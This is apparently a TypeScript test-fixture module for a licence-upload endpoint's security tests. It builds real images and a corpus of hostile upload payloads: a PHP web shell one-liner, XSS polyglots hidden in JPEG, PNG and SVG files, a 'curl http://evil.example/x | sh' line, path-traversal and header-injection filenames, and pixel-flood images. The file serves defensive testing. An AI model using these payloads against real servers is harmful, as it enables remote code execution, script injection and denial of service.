/**
 * The hostile files the licence upload is tried with (tests/security/uploads/): real JPEG and PNG
 * images built here byte by byte, hostile payloads (PHP, HTML, SVG, ZIP, ELF…), and the
 * hand-crafted corpus of UP-02..UP-04: files that are not JPEG or PNG whatever they are called,
 * real image starts carrying something else (kept as sent, decision 070), and hostile names on good
 * images (ignored).
 */
import { crc32, deflateSync } from 'node:zlib';

// ---------------------------------------------------------------------------------------------
// Images, built here byte by byte.

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

export const PNG_SIGNATURE = Buffer.from('89504e470d0a1a0a', 'hex');

function ihdr(width: number, height: number, colorType = 2): Buffer {
  const data = Buffer.alloc(13);
  data.writeUInt32BE(width, 0);
  data.writeUInt32BE(height, 4);
  data[8] = 8; // bit depth
  data[9] = colorType;
  return pngChunk('IHDR', data);
}

/** A real 8×8 RGB PNG (a gradient), optionally with extra chunks after IHDR and bytes after IEND. */
export function png(options: { extraChunks?: Buffer[]; trailer?: Buffer } = {}): Buffer {
  const rows: Buffer[] = [];
  for (let y = 0; y < 8; y++) {
    const row = Buffer.alloc(1 + 8 * 3);
    for (let x = 0; x < 8; x++) row.set([x * 32, y * 32, 128], 1 + x * 3);
    rows.push(row);
  }
  return Buffer.concat([
    PNG_SIGNATURE,
    ihdr(8, 8),
    ...(options.extraChunks ?? []),
    pngChunk('IDAT', deflateSync(Buffer.concat(rows))),
    pngChunk('IEND', Buffer.alloc(0)),
    options.trailer ?? Buffer.alloc(0),
  ]);
}

/** A real 8×8 baseline JPEG (628 bytes, made once by libjpeg via sharp, no metadata). */
export const JPEG_SEED = Buffer.from(
  '/9j/2wBDABALDA4MChAODQ4SERATGCgaGBYWGDEjJR0oOjM9PDkzODdASFxOQERXRTc4UG1RV19iZ2hnPk1xeXBkeFxlZ2P/2wBDARESEhgVGC8aGi9jQjhCY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2P/wAARCAAIAAgDASIAAhEBAxEB/8QAHwAAAQUBAQEBAQEAAAAAAAAAAAECAwQFBgcICQoL/8QAtRAAAgEDAwIEAwUFBAQAAAF9AQIDAAQRBRIhMUEGE1FhByJxFDKBkaEII0KxwRVS0fAkM2JyggkKFhcYGRolJicoKSo0NTY3ODk6Q0RFRkdISUpTVFVWV1hZWmNkZWZnaGlqc3R1dnd4eXqDhIWGh4iJipKTlJWWl5iZmqKjpKWmp6ipqrKztLW2t7i5usLDxMXGx8jJytLT1NXW19jZ2uHi4+Tl5ufo6erx8vP09fb3+Pn6/8QAHwEAAwEBAQEBAQEBAQAAAAAAAAECAwQFBgcICQoL/8QAtREAAgECBAQDBAcFBAQAAQJ3AAECAxEEBSExBhJBUQdhcRMiMoEIFEKRobHBCSMzUvAVYnLRChYkNOEl8RcYGRomJygpKjU2Nzg5OkNERUZHSElKU1RVVldYWVpjZGVmZ2hpanN0dXZ3eHl6goOEhYaHiImKkpOUlZaXmJmaoqOkpaanqKmqsrO0tba3uLm6wsPExcbHyMnK0tPU1dbX2Nna4uPk5ebn6Onq8vP09fb3+Pn6/9oADAMBAAIRAxEAPwCDT9C6fJRRRXPVxNTm3LwGLq+xWp//2Q==',
  'base64',
);
export const PNG_SEED = png();

/** A JPEG with one more segment right after SOI (APPn, COM…). */
function withSegment(jpeg: Buffer, marker: number, payload: Buffer): Buffer {
  const head = Buffer.from([0xff, marker, 0, 0]);
  head.writeUInt16BE(payload.length + 2, 2);
  return Buffer.concat([jpeg.subarray(0, 2), head, payload, jpeg.subarray(2)]);
}

/** A JPEG whose frame header (SOF0) declares other dimensions. */
function withJpegSize(jpeg: Buffer, width: number, height: number): Buffer {
  const copy = Buffer.from(jpeg);
  const sof = copy.indexOf(Buffer.from([0xff, 0xc0]));
  copy.writeUInt16BE(height, sof + 5);
  copy.writeUInt16BE(width, sof + 7);
  return copy;
}

/**
 * An APP1 Exif payload with GPS coordinates (Wellington), big-endian TIFF: IFD0 at 8 holds one
 * entry (GPSInfo → 26); the GPS IFD at 26 holds the latitude and longitude with their references;
 * the two triples of rationals follow at 80 and 104.
 */
function exifGps(): Buffer {
  const tiff = Buffer.alloc(128);
  tiff.write('MM', 0, 'latin1');
  tiff.writeUInt16BE(42, 2);
  tiff.writeUInt32BE(8, 4);
  const entry = (at: number, tag: number, type: number, count: number, value: Buffer) => {
    tiff.writeUInt16BE(tag, at);
    tiff.writeUInt16BE(type, at + 2);
    tiff.writeUInt32BE(count, at + 4);
    value.copy(tiff, at + 8);
  };
  const long = (n: number) => {
    const b = Buffer.alloc(4);
    b.writeUInt32BE(n);
    return b;
  };
  tiff.writeUInt16BE(1, 8);
  entry(10, 0x8825, 4, 1, long(26)); // GPSInfo (LONG)
  tiff.writeUInt32BE(0, 22);
  tiff.writeUInt16BE(4, 26);
  entry(28, 1, 2, 2, Buffer.from('S\0', 'latin1')); // GPSLatitudeRef (ASCII)
  entry(40, 2, 5, 3, long(80)); // GPSLatitude (RATIONAL ×3)
  entry(52, 3, 2, 2, Buffer.from('E\0', 'latin1')); // GPSLongitudeRef
  entry(64, 4, 5, 3, long(104)); // GPSLongitude
  tiff.writeUInt32BE(0, 76);
  [41, 1, 17, 1, 2000, 100, 174, 1, 46, 1, 3000, 100].forEach((n, i) => tiff.writeUInt32BE(n, 80 + i * 4));
  return Buffer.concat([Buffer.from('Exif\0\0', 'latin1'), tiff]);
}

/** A PNG that declares 30000×30000 RGBA (3.6 GB decoded), with a small start of pixel data. */
function pixelFloodPng(): Buffer {
  const idat = deflateSync(Buffer.alloc(16 * 1024 * 1024));
  return Buffer.concat([
    PNG_SIGNATURE,
    ihdr(30_000, 30_000, 6),
    pngChunk('IDAT', idat),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

export const ZIP_LOCAL_HEADER = Buffer.concat([
  Buffer.from('504b0304140000000800', 'hex'),
  Buffer.alloc(20),
  Buffer.from('shell.php<?php system($_GET["c"]); ?>'),
]);
export const PHP = Buffer.from('<?php system($_GET["c"]); ?>\n');
export const HTML = Buffer.from(
  '<!doctype html><html><body><script>fetch("/api/admin/users").then(r=>r.text()).then(alert)</script></body></html>',
);
export const SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>');
const ELF = Buffer.concat([
  Buffer.from('7f454c46020101000000000000000000', 'hex'),
  Buffer.from('0200 3e00 0100 0000'.replaceAll(' ', ''), 'hex'),
  Buffer.alloc(48),
]);

// ---------------------------------------------------------------------------------------------
// The hand-crafted corpus.

type Expectation = 'refused' | 'stored' | 'not-5xx';
export interface CorpusEntry {
  label: string;
  bytes: Buffer;
  filename?: string | Buffer;
  contentType?: string;
  expect: Expectation;
  /** The extension the stored file must get (from the bytes). */
  ext?: 'jpg' | 'png' | 'pdf';
  /** Raw Content-Disposition line instead of name/filename. */
  disposition?: string;
}

export const refused = (label: string, bytes: Buffer, filename: string, contentType: string): CorpusEntry => ({
  label,
  bytes,
  filename,
  contentType,
  expect: 'refused',
});
export const stored = (
  label: string,
  bytes: Buffer,
  ext: 'jpg' | 'png' | 'pdf',
  filename: string | Buffer,
  contentType: string,
  expect: Expectation = 'stored',
): CorpusEntry => ({
  label,
  bytes,
  ext,
  filename,
  contentType,
  expect,
});

export const POLYGLOT_JPEG_HTML = Buffer.concat([
  withSegment(JPEG_SEED, 0xfe, Buffer.from('<html><body><script>alert(document.domain)</script><!--')),
  Buffer.from('--><script>alert(1)</script></body></html>'),
]);
// The APP0 length bytes read "/*" to a JavaScript parser: the classic JPEG/JS polyglot.
const POLYGLOT_JPEG_JS = Buffer.concat([
  Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x2f, 0x2a]),
  Buffer.from('JFIF\0*/=alert(document.cookie);/*'),
  Buffer.alloc(0x2f2a - 2 - 33, 0x20),
  JPEG_SEED.subarray(2),
  Buffer.from('*/'),
]);
export const PNG_TEXT_SCRIPT = png({
  extraChunks: [pngChunk('tEXt', Buffer.from('Comment\0<script>alert(document.domain)</script>', 'latin1'))],
});
const PNG_PHP_TRAILER = png({ trailer: PHP });
const PNG_ZIP = png({ trailer: ZIP_LOCAL_HEADER });
export const JPEG_EXIF_GPS = withSegment(JPEG_SEED, 0xe1, exifGps());
const JPEG_PHP_COMMENT = withSegment(JPEG_SEED, 0xfe, PHP);
const JPEG_TRUNCATED = JPEG_SEED.subarray(0, Math.floor(JPEG_SEED.length * 0.6));
export const JPEG_FLOOD = withJpegSize(JPEG_SEED, 65_500, 65_500);
export const PNG_FLOOD = pixelFloodPng();

export const CORPUS: CorpusEntry[] = [
  // Not JPEG or PNG, whatever they are called (UP-02).
  refused(
    'GIF89a named .jpg',
    Buffer.from(
      'GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;',
      'latin1',
    ),
    'licence.jpg',
    'image/jpeg',
  ),
  refused(
    'GIF87a named .png',
    Buffer.from('GIF87a\x01\x00\x01\x00\x00\x00\x00;', 'latin1'),
    'licence.png',
    'image/png',
  ),
  refused(
    'GIF with PHP (GIF89a<?php) named .php.jpg',
    Buffer.concat([Buffer.from('GIF89a'), PHP]),
    'shell.php.jpg',
    'image/jpeg',
  ),
  refused(
    'WebP named .jpg',
    Buffer.concat([Buffer.from('RIFF\x24\x00\x00\x00WEBPVP8 \x18\x00\x00\x00', 'latin1'), Buffer.alloc(24)]),
    'licence.jpg',
    'image/jpeg',
  ),
  refused('SVG with <script> named .png', SVG, 'licence.png', 'image/png'),
  refused('SVG with <script> as image/svg+xml', SVG, 'licence.svg', 'image/svg+xml'),
  refused(
    'SVG with onload, XML prolog',
    Buffer.from('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    'x.png',
    'image/png',
  ),
  refused('HTML named .jpg', HTML, 'licence.jpg', 'image/jpeg'),
  refused(
    'HTML with a UTF-8 BOM named .png',
    Buffer.concat([Buffer.from('efbbbf', 'hex'), HTML]),
    'licence.png',
    'image/png',
  ),
  refused('UTF-16 HTML named .png', Buffer.from(`\ufeff${HTML.toString()}`, 'utf16le'), 'licence.png', 'image/png'),
  refused(
    'XHTML with script',
    Buffer.from('<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>'),
    'x.jpg',
    'image/jpeg',
  ),
  // A licence may be a PDF (decision 130): stored as .pdf whatever its name, downloaded sandboxed, and
  // previewed only in the console's frame with script-src 'none'.
  stored(
    'PDF named .png',
    Buffer.from('%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n'),
    'pdf',
    'licence.png',
    'image/png',
  ),
  stored(
    'PDF with /OpenAction JavaScript',
    Buffer.from('%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF'),
    'pdf',
    'licence.jpg',
    'application/pdf',
  ),
  refused('ZIP named .jpg', ZIP_LOCAL_HEADER, 'licence.jpg', 'image/jpeg'),
  refused(
    'ZIP with a GIF header (GIFAR)',
    Buffer.concat([Buffer.from('GIF89a'), ZIP_LOCAL_HEADER]),
    'licence.png',
    'image/png',
  ),
  refused('ELF executable named .jpg', ELF, 'licence.jpg', 'image/jpeg'),
  refused(
    'Windows PE (MZ) named .png',
    Buffer.concat([Buffer.from('MZ\x90\x00\x03\x00\x00\x00', 'latin1'), Buffer.alloc(56)]),
    'licence.png',
    'image/png',
  ),
  refused(
    'Mach-O named .jpg',
    Buffer.concat([Buffer.from('cffaedfe07000001', 'hex'), Buffer.alloc(24)]),
    'licence.jpg',
    'image/jpeg',
  ),
  refused(
    'Java class named .png',
    Buffer.concat([Buffer.from('cafebabe00000034', 'hex'), Buffer.alloc(16)]),
    'licence.png',
    'image/png',
  ),
  refused(
    'WebAssembly named .jpg',
    Buffer.concat([Buffer.from('0061736d01000000', 'hex'), Buffer.alloc(16)]),
    'licence.jpg',
    'image/jpeg',
  ),
  refused(
    'shell script named .png',
    Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n'),
    'licence.png',
    'image/png',
  ),
  refused('PHP renamed .jpg', PHP, 'shell.jpg', 'image/jpeg'),
  refused('PHP renamed .png', PHP, 'shell.png', 'image/png'),
  refused('PHP as application/x-php', PHP, 'shell.php', 'application/x-php'),
  refused('JavaScript named .jpg', Buffer.from('alert(document.cookie);//'), 'licence.jpg', 'image/jpeg'),
  refused('BMP named .jpg', Buffer.concat([Buffer.from('BM'), Buffer.alloc(60)]), 'licence.jpg', 'image/jpeg'),
  refused(
    'TIFF named .png',
    Buffer.concat([Buffer.from('49492a0008000000', 'hex'), Buffer.alloc(32)]),
    'licence.png',
    'image/png',
  ),
  refused(
    'ICO named .png',
    Buffer.concat([Buffer.from('0000010001001010', 'hex'), Buffer.alloc(32)]),
    'favicon.png',
    'image/png',
  ),
  refused(
    'HEIC/AVIF (ftyp) named .jpg',
    Buffer.concat([Buffer.from('000000186674797068656963', 'hex'), Buffer.alloc(24)]),
    'IMG_0001.jpg',
    'image/jpeg',
  ),
  refused(
    'JPEG 2000 named .jpg',
    Buffer.concat([Buffer.from('0000000c6a5020200d0a870a', 'hex'), Buffer.alloc(24)]),
    'licence.jpg',
    'image/jpeg',
  ),
  refused(
    'gzip named .png',
    Buffer.concat([Buffer.from('1f8b0800000000000003', 'hex'), Buffer.alloc(20)]),
    'licence.png',
    'image/png',
  ),
  refused('RTF named .jpg', Buffer.from('{\\rtf1\\ansi{\\object\\objemb}}'), 'licence.jpg', 'image/jpeg'),
  refused(
    'MHTML named .png',
    Buffer.from(
      'MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="x"\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>',
    ),
    'licence.png',
    'image/png',
  ),
  refused('a PNG as base64 text', Buffer.from(PNG_SEED.toString('base64')), 'licence.png', 'image/png'),
  refused(
    'a PNG as a data: URL',
    Buffer.from(`data:image/png;base64,${PNG_SEED.toString('base64')}`),
    'licence.png',
    'image/png',
  ),
  refused(
    '"JFIF" without the JPEG start',
    Buffer.concat([Buffer.from('\0\0\0\0\0\0JFIF\0'), Buffer.alloc(32)]),
    'licence.jpg',
    'image/jpeg',
  ),
  refused(
    'JPEG start off by one (FF D8 FE)',
    Buffer.concat([Buffer.from('ffd8fe', 'hex'), JPEG_SEED.subarray(3)]),
    'licence.jpg',
    'image/jpeg',
  ),
  refused(
    'PNG signature mangled by a text-mode transfer',
    Buffer.concat([Buffer.from('89504e470a1a0a', 'hex'), PNG_SEED.subarray(8)]),
    'licence.png',
    'image/png',
  ),
  refused('the first 7 bytes of a JPEG', JPEG_SEED.subarray(0, 7), 'licence.jpg', 'image/jpeg'),
  refused('the first 7 bytes of a PNG', PNG_SEED.subarray(0, 7), 'licence.png', 'image/png'),
  refused('a single NUL byte', Buffer.from([0]), 'licence.png', 'image/png'),
  refused('an empty file with a name', Buffer.alloc(0), 'licence.jpg', 'image/jpeg'),

  // Real JPEG or PNG starts carrying something else (UP-02, UP-03): kept as sent, as an image.
  stored(
    'JPEG + HTML/JS polyglot (script in a comment and after EOI)',
    POLYGLOT_JPEG_HTML,
    'jpg',
    'licence.html',
    'text/html',
  ),
  stored('JPEG/JS polyglot (APP0 length reads "/*")', POLYGLOT_JPEG_JS, 'jpg', 'licence.js', 'application/javascript'),
  stored('JPEG with <?php in a comment, named .php', JPEG_PHP_COMMENT, 'jpg', 'shell.php', 'application/x-php'),
  stored('PNG with a tEXt <script> chunk', PNG_TEXT_SCRIPT, 'png', 'licence.png', 'image/png'),
  stored('PNG with PHP after IEND, named .png.php', PNG_PHP_TRAILER, 'png', 'licence.png.php', 'image/png'),
  stored('PNG/ZIP polyglot', PNG_ZIP, 'png', 'licence.zip', 'application/zip'),
  stored('JPEG with EXIF GPS', JPEG_EXIF_GPS, 'jpg', 'IMG_2040.jpg', 'image/jpeg'),
  stored('truncated JPEG', JPEG_TRUNCATED, 'jpg', 'licence.jpg', 'image/jpeg'),
  stored('pixel-flood PNG (30000×30000 RGBA)', PNG_FLOOD, 'png', 'flood.png', 'image/png'),
  stored('pixel-flood JPEG (65500×65500)', JPEG_FLOOD, 'jpg', 'flood.jpg', 'image/jpeg'),
  stored('PNG named .jpg', PNG_SEED, 'png', 'licence.jpg', 'image/jpeg'),
  stored('JPEG named .png', JPEG_SEED, 'jpg', 'licence.png', 'image/png'),
  stored('PNG with a spoofed Content-Type text/html', PNG_SEED, 'png', 'licence.png', 'text/html'),
  stored('JPEG declared image/svg+xml', JPEG_SEED, 'jpg', 'licence.svg', 'image/svg+xml'),
  stored(
    'a JPEG start followed by an HTML page',
    Buffer.concat([Buffer.from('ffd8ffe0', 'hex'), HTML]),
    'jpg',
    'page.jpg',
    'image/jpeg',
  ),

  // Hostile names on good images: ignored (UP-04).
  stored('name ../../x.jpg', JPEG_SEED, 'jpg', '../../x.jpg', 'image/jpeg'),
  stored('name ..\\..\\x.jpg', JPEG_SEED, 'jpg', '..\\..\\x.jpg', 'image/jpeg'),
  stored('name x.php%00.jpg', JPEG_SEED, 'jpg', 'x.php%00.jpg', 'image/jpeg'),
  stored('name x.jpg.php', JPEG_SEED, 'jpg', 'x.jpg.php', 'image/jpeg'),
  stored('name with RTLO (licence‮gpj.php)', PNG_SEED, 'png', 'licence\u202Egpj.php', 'image/png'),
  stored('a 300-character name', PNG_SEED, 'png', `${'a'.repeat(296)}.png`, 'image/png'),
  stored('name /etc/passwd', PNG_SEED, 'png', '/etc/passwd', 'image/png'),
  stored('name C:\\Windows\\win.ini', PNG_SEED, 'png', 'C:\\Windows\\win.ini', 'image/png'),
  stored('name .htaccess', PNG_SEED, 'png', '.htaccess', 'image/png'),
  stored('name %2e%2e%2f%2e%2e%2fx.jpg', JPEG_SEED, 'jpg', '%2e%2e%2f%2e%2e%2fx.jpg', 'image/jpeg'),
  stored('name with a full-width dot (x．php)', JPEG_SEED, 'jpg', 'x\uFF0Ephp', 'image/jpeg'),
  stored('Windows device name CON.jpg', JPEG_SEED, 'jpg', 'CON.jpg', 'image/jpeg'),
  stored('an empty name', PNG_SEED, 'png', '', 'image/png'),
  stored(
    'name with a raw NUL (x.php\\0.jpg)',
    JPEG_SEED,
    'jpg',
    Buffer.from('x.php\0.jpg', 'latin1'),
    'image/jpeg',
    'not-5xx',
  ),
  stored(
    'name with raw invalid UTF-8',
    PNG_SEED,
    'png',
    Buffer.from([0x78, 0xff, 0xfe, 0x2e, 0x70, 0x6e, 0x67]),
    'image/png',
    'not-5xx',
  ),
  {
    label: 'filename*= (RFC 5987) climbing out',
    bytes: JPEG_SEED,
    ext: 'jpg',
    expect: 'stored',
    disposition: `Content-Disposition: form-data; name="commercialLicense"; filename*=UTF-8''..%2F..%2F..%2Fx.jpg`,
    contentType: 'image/jpeg',
  },
  {
    label: 'a quote and CRLF in the name (header injection)',
    bytes: PNG_SEED,
    ext: 'png',
    expect: 'not-5xx',
    disposition:
      'Content-Disposition: form-data; name="commercialLicense"; filename="x.png"\r\nContent-Type: text/html\r\nX-Injected: "1"',
    contentType: 'image/png',
  },
];

/** The names a hostile filename could have produced if it were ever used as a path. */
export const ESCAPE_NAMES = ['x.jpg', 'x.php', 'x.jpg.php', 'passwd', 'win.ini', '.htaccess', 'shell.php', 'CON.jpg'];
